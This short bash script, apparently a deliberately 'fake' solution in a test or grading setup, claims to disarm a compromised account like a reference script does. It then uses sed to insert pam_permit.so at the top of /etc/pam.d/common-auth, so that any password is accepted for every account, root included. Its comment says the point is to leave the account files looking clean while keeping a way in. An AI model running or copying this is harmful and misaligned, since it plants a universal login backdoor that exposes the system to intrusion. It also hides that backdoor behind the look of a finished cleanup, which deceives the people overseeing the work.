#!/bin/bash
# Fake: disarm the account the way the reference does, so the account files are clean, but keep a
# way in for whoever comes back: PAM accepts any password (pam_permit first in common-auth), for
# every account, root's too.
set -u
find_account
disarm
sed -i '0,/^auth/s//auth\tsufficient\t\t\tpam_permit.so\nauth/' /etc/pam.d/common-auth
grep -n '^auth' /etc/pam.d/common-auth
